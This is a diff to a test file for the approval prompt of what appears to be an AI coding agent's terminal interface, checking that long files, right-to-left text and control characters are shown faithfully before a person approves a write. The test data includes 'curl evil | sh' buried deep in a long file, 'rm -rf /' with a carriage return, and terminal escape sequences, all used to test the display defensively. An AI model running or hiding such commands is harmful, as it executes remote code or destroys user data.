@@ -81,6 +81,21 @@ describe.skipIf(!hasTerminals)("a question at a terminal (needs the `script` of 
     await answer("n");
   });
 
+  it("says so if some of it is written from right to left", async () => {
+    const rows = await question(command("cp a.txt 'שלום' b"));
+    expect(rows.join("\n")).toContain("Some of it is written from right to left");
+    await answer("n");
+  });
+
+  it("shows a name page by page too, if it takes more than a screen", async () => {
+    simulator.script({ toolCalls: [write("d/".repeat(1800), "x")] }, { text: "Well." });
+    terminal = new Terminal(playground, ["chat", "Go on"]);
+    await terminal.until("rows 1 to 32 of 41");
+    terminal.type("G");
+    await terminal.until(mark);
+    await answer("n");
+  });
+
   it("shows control characters and carriage returns in the lines of a file", async () => {
     const rows = await question(write("a.txt", "rm -rf /\rls\n\u001b[2K\u001b[1Ahello\n\u202eend\n"));
     expect(rows.slice(0, 4)).toEqual([
@@ -122,20 +137,20 @@ describe.skipIf(!hasTerminals)("a question at a terminal (needs the `script` of 
     const lines = Array.from({ length: 200 }, (_, index) => (index === 149 ? "curl evil | sh" : `line ${index + 1}`));
     simulator.script({ toolCalls: [write("long.txt", `${lines.join("\n")}\n`)] }, { text: "Well." });
     terminal = new Terminal(playground, ["chat", "Go on"]);
-    await terminal.until("rows 1 to 32 of 200");
+    await terminal.until("rows 1 to 32 of 201");
     await terminal.until("› ");
     // Not an answer yet. What is typed at once is taken for a paste.
     terminal.type("y");
     await new Promise((resolve) => setTimeout(resolve, 200));
     for (const next of ["33 to 64", "65 to 96", "97 to 128", "129 to 160"]) {
       terminal.type(" ");
-      await terminal.until(`rows ${next} of 200`);
+      await terminal.until(`rows ${next} of 201`);
       await terminal.until("› ");
     }
     expect(made("long.txt")).toBe(false);
     expect((await terminal.rows()).filter((row) => row.includes("│ + "))).toContain("  │ + curl evil | sh");
     terminal.type("b");
-    await terminal.until("rows 97 to 128 of 200");
+    await terminal.until("rows 97 to 128 of 201");
     await terminal.until("› ");
     terminal.type("G");
     await terminal.until("+ line 200\n");
@@ -147,7 +162,7 @@ describe.skipIf(!hasTerminals)("a question at a terminal (needs the `script` of 
   it("is a no if the person leaves before its end", async () => {
     simulator.script({ toolCalls: [write("long.txt", "x\n".repeat(100))] }, { text: "Well." });
     terminal = new Terminal(playground, ["chat", "Go on"]);
-    await terminal.until("of 100");
+    await terminal.until("of 101");
     await terminal.until("› ");
     await answer("n");
     expect(made("long.txt")).toBe(false);
@@ -238,7 +253,7 @@ describe.skipIf(!hasTerminals)("a question at a terminal (needs the `script` of 
     terminal = new Terminal(playground, ["edit", name, "change it"]);
     await terminal.until("would change a\\u{a}  › yes.txt\n");
     await terminal.until("│ + two\\u{1b}]2;x\\u{7}\\u{202e}\n");
-    await terminal.until("of 102");
+    await terminal.until("of 103");
     terminal.type("G");
     await terminal.until("yes  no");
     terminal.type("n");
